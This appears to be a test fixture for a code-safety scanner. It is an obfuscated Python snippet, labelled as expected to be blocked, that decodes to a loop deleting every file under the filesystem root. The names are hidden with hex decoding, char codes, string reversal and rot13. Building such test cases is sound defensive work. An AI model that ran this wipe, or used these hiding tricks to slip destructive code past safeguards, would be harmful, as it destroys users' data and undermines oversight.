# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/rglob_unlink_root.py technique: encode+getattr
Path = getattr(__import__(bytes.fromhex('706174686c6962').decode(), fromlist=['_']), ''.join(map(chr, [80, 97, 116, 104])))
for path in Path('/').rglob('*'):
    if getattr(path, 'elif_si'[::-1])():
        getattr(path, __import__('codecs').decode('hayvax', 'rot13'))(missing_ok=True)
